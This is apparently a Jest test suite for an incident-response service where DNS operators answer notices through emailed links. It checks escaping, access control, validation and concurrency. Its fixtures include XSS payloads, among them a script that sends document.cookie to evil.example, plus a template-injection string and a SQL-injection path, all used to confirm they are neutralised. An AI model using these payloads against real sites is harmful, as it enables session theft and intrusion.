import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { affectedBySlug, deliveriesOf, openIncident, tell, timelineOf } from './fixtures/casework.ts';
import type { IncidentView } from './fixtures/casework.ts';
import { linkOf, messagesOf } from './fixtures/mails.ts';
import type { Api } from './harness/api.ts';
import { QUEUES, TestService } from './harness/service.ts';

const HOSTILE_NAME = `<script>alert(1)</script> & "Sons" <img src=x onerror=alert(2)>`;
const HOSTILE_WORDS = [
  `<script>fetch('//evil.example/'+document.cookie)</script>`,
  `"><svg onload=alert(1)>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `</textarea><iframe src="javascript:alert(1)">`,
];

interface LinkView {
  operatorName: string;
  answers: { answer: string; at: string }[];
}

describe(`an operator answers without an account (queues on ${QUEUES})`, () => {
  let test: TestService;
  let staff: Api;
  let stranger: Api;
  let incident: IncidentView;

  beforeAll(async () => {
    test = await TestService.start({ env: { AUTO_NOTIFY: 'off' } });
    await test.importOperators(
      {
        slug: 'plain',
        name: HOSTILE_NAME,
        tlds: ['aa'],
        contacts: [{ email: 'noc@plain.example', role: 'noc' }],
      },
      { slug: 'other', tlds: ['bb'], contacts: [{ email: 'noc@other.example', role: 'noc' }] },
    );
    staff = await test.signUp('responder');
    stranger = test.api();
    incident = await openIncident(test, staff, {
      summary: 'Name servers of .aa and .bb answer slowly',
      severity: 'high',
      resources: [
        { type: 'tld', value: 'aa' },
        { type: 'tld', value: 'bb' },
      ],
    });
  });
  afterAll(() => test.stop());

  /** A new notice to an operator; its delivery and the link in its mail. */
  const noticed = async (slug: string): Promise<{ deliveryId: string; link: string }> => {
    const { id } = await tell(staff, incident.id, { audience: { operators: [slug] } });
    await test.settled();
    const email = `noc@${slug}.example`;
    const mail = messagesOf(test.sink)
      .filter(({ to }) => to.includes(email))
      .at(-1);
    const delivery = (await deliveriesOf(staff, id))[email];
    return { deliveryId: delivery?.id ?? '', link: linkOf(mail?.raw ?? Buffer.alloc(0)) };
  };
  /** Each stands for its entry and all before it; where an entry stands in the log may come a moment later. */
  const hashesOf = async () => (await timelineOf(staff, incident.id)).map(({ leafHash }) => leafHash);
  const stateOf = async (slug: string) => (await affectedBySlug(test, staff, incident.id))[slug]?.state;
  const answersOf = (deliveryId: string) =>
    test.sql<{ answer: string; comment: string | null; via: string }>(
      'SELECT answer, comment, via FROM acknowledgements WHERE delivery_id = $1 ORDER BY created_at',
      [deliveryId],
    );
  const asForm = { 'content-type': 'application/x-www-form-urlencoded' };

  it('is asked by a page that changes nothing however often it is opened, by people or scanners', async () => {
    const { deliveryId, link } = await noticed('plain');
    const before = await hashesOf();
    for (let turn = 0; turn < 50; turn += 1) {
      const accept = turn % 2 === 0 ? 'text/html' : 'application/json';
      expect((await stranger.call(turn % 5 === 0 ? 'HEAD' : 'GET', link, undefined, { accept })).status).toBe(
        200,
      );
    }
    expect(await hashesOf()).toEqual(before);
    expect(await stateOf('plain')).toBe('told');
    expect(await answersOf(deliveryId)).toEqual([]);
  });

  it('answers by one button, and the record says who, by which way, and what it changed', async () => {
    const { deliveryId, link } = await noticed('plain');
    const since = (await timelineOf(staff, incident.id)).length;
    const { status, text } = await stranger.call('POST', link, 'answer=affected&comment=', {
      ...asForm,
      accept: 'text/html',
    });
    expect(status).toBe(200);
    expect(text).toMatch(/The responders have your answer/);
    expect(await stateOf('plain')).toBe('affected');
    expect(await answersOf(deliveryId)).toEqual([{ answer: 'affected', comment: null, via: 'link' }]);
    const entries = (await timelineOf(staff, incident.id)).slice(since);
    const operatorId = await test.operatorId('plain');
    expect(
      entries.map(({ type, actor, data }) => [type, actor.kind, actor.name, data['operatorId']]),
    ).toEqual([
      ['delivery.acknowledged', 'contact', 'noc@plain.example', operatorId],
      ['operator.state_changed', 'contact', 'noc@plain.example', operatorId],
    ]);
    expect(entries[0]?.data).toMatchObject({
      deliveryId,
      via: 'link',
      answer: 'affected',
      from: 'handed_over',
      to: 'acknowledged',
    });
    expect(entries[1]?.data).toMatchObject({ from: 'told', to: 'affected' });
  });

  it('keeps each later answer beside the first', async () => {
    const { deliveryId, link } = await noticed('plain');
    for (const answer of ['seen', 'mitigating', 'recovered'])
      expect((await stranger.post(link, { answer }, { accept: 'application/json' })).status).toBe(200);
    const { body } = await stranger.get<LinkView>(link, { accept: 'application/json' });
    expect(body.answers.map(({ answer }) => answer)).toEqual(['seen', 'mitigating', 'recovered']);
    expect((await answersOf(deliveryId)).map(({ answer }) => answer)).toEqual([
      'seen',
      'mitigating',
      'recovered',
    ]);
    expect(await stateOf('plain')).toBe('recovered');
    const { body: page } = await staff.get<{ items: unknown[] }>(`incidents/${incident.id}/affected`);
    expect(page.items).toHaveLength(2);
  });

  it('has its word read by the responders, and by them alone', async () => {
    const { link, deliveryId } = await noticed('plain');
    await stranger.post(
      link,
      { answer: 'affected', comment: 'Call me: ns2 is gone.' },
      { accept: 'application/json' },
    );
    const [{ id } = { id: '' }] = await test.sql<{ id: string }>(
      'SELECT notification_id AS id FROM deliveries WHERE id = $1',
      [deliveryId],
    );
    const { body } = await staff.get<{ deliveries: { answers: Record<string, unknown>[] }[] }>(
      `notifications/${id}`,
    );
    expect(body.deliveries[0]?.answers).toEqual([
      {
        answer: 'affected',
        comment: 'Call me: ns2 is gone.',
        via: 'link',
        givenBy: expect.objectContaining({ kind: 'contact', name: 'noc@plain.example' }) as unknown,
        at: expect.stringMatching(/Z$/) as unknown,
      },
    ]);
    const operator = await test.signUp('operator', { operator: 'plain' });
    expect((await operator.get(`notifications/${id}`)).status).toBe(403);
  });

  it('knows no link but those that were sent', async () => {
    const { link } = await noticed('other');
    const before = await hashesOf();
    const wrong = [
      `${link}x`,
      link.slice(0, -1),
      '/ack/',
      `/ack/${'A'.repeat(43)}`,
      '/ack/%00',
      "/ack/' OR 1=1 --",
    ];
    for (const path of wrong) {
      for (const accept of ['text/html', 'application/json']) {
        expect([path, (await stranger.get(path, { accept })).status]).toEqual([path, 404]);
        expect([path, (await stranger.post(path, { answer: 'seen' }, { accept })).status]).toEqual([
          path,
          404,
        ]);
      }
    }
    expect((await stranger.get('/ack/nothing', { accept: 'application/json' })).body['code']).toBe(
      'acknowledgement.link_unknown',
    );
    expect(await hashesOf()).toEqual(before);
  });

  it('may answer what an operator may know, and nothing else', async () => {
    const { link, deliveryId } = await noticed('other');
    for (const body of [
      { answer: 'not_told' },
      { answer: 'no_answer' },
      { answer: 'seen', operatorId: await test.operatorId('plain') },
      { answer: 'seen', comment: 'x'.repeat(4_001) },
      { answer: ['seen'] },
    ])
      expect((await stranger.post(link, body, { accept: 'application/json' })).status).toBe(400);
    expect(await answersOf(deliveryId)).toEqual([]);
    expect(await stateOf('other')).toBe('told');
  });

  it('is shown no markup that came from a name or a comment', async () => {
    const { link } = await noticed('plain');
    for (const comment of HOSTILE_WORDS)
      await stranger.post(link, { answer: 'seen', comment }, { accept: 'application/json' });
    const { text, headers } = await stranger.get(link, { accept: 'text/html' });
    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Sons&quot;');
    expect(text).not.toMatch(/<script|<svg|<iframe|<img/i);
    expect(text.match(/<\/textarea>/g)).toHaveLength(1);
    expect(headers.get('content-security-policy')).toMatch(/script-src 'self'/);
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('cache-control')).toBe('no-store');
    // What answers in JSON is never taken for a page.
    for (const path of [`incidents/${incident.id}/timeline`, `incidents/${incident.id}/affected`]) {
      const answer = await staff.get(path);
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    }
    const json = await stranger.get<LinkView>(link, { accept: 'application/json' });
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    expect(json.body.operatorName).toBe(HOSTILE_NAME);
  });

  it('is asked in its own language, and keeps its word when it asks for another', async () => {
    const { link } = await noticed('plain');
    const page = (headers: Record<string, string>) => stranger.get(link, { accept: 'text/html', ...headers });
    const french = await page({ 'accept-language': 'fr-CH, en;q=0.5' });
    expect(french.text).toContain('<html lang="fr">');
    expect(french.text).toContain('Oui, nous sommes touchés');
    expect(french.headers.get('content-language')).toBe('fr');
    expect((await page({ 'accept-language': 'tlh' })).text).toContain('Yes, we are affected');
    const asked = { ...asForm, accept: 'text/html' };
    const switched = await stranger.call('POST', link, 'lang=fr&comment=%22ns2%22+is+gone', asked);
    expect(switched.status).toBe(200);
    expect(switched.text).toContain('&quot;ns2&quot; is gone</textarea>');
    expect(switched.text).toContain('Rien n’a encore été répondu');
    expect(switched.headers.getSetCookie()).toEqual([
      expect.stringMatching(/^dnscert_language=fr; Max-Age=31536000; Path=\/; .*HttpOnly; SameSite=Strict$/),
    ]);
    expect((await page({ cookie: 'dnscert_language=fr' })).text).toContain('<html lang="fr">');
  });

  it('signed in, answers for its own delivery and sees no other', async () => {
    const own = await noticed('other');
    const foreign = await noticed('plain');
    const operator = await test.signUp('operator', { operator: 'other' });
    const answer = (api: Api, id: string) =>
      api.post(`deliveries/${id}/acknowledgement`, { answer: 'not_affected' });
    const before = await stateOf('plain');
    expect((await answer(operator, foreign.deliveryId)).status).toBe(404);
    expect((await answer(operator, '00000000-0000-7000-8000-000000000000')).status).toBe(404);
    expect((await answer(stranger, own.deliveryId)).status).toBe(401);
    expect(await stateOf('plain')).toBe(before);
    const { status, body } = await answer(operator, own.deliveryId);
    expect([status, body['state']]).toEqual([200, 'acknowledged']);
    expect(await stateOf('other')).toBe('not_affected');
    const entry = (await timelineOf(staff, incident.id))
      .filter(({ type }) => type === 'delivery.acknowledged')
      .at(-1);
    expect([entry?.actor.kind, entry?.data['via']]).toEqual(['operator', 'api']);
    // And a responder for one who called.
    expect((await answer(staff, foreign.deliveryId)).status).toBe(200);
    expect(await stateOf('plain')).toBe('not_affected');
  });

  it('loses no answer when many come at the same time', async () => {
    const { link, deliveryId } = await noticed('plain');
    const answers = await Promise.all(
      Array.from({ length: 10 }, (_, turn) =>
        stranger.post(
          link,
          { answer: turn % 2 === 0 ? 'affected' : 'mitigating' },
          { accept: 'application/json' },
        ),
      ),
    );
    expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 200));
    const kept = await answersOf(deliveryId);
    expect(kept).toHaveLength(10);
    const last = (await timelineOf(staff, incident.id))
      .filter(({ type }) => type === 'operator.state_changed')
      .at(-1);
    expect(await stateOf('plain')).toBe(last?.data['to']);
  });
});
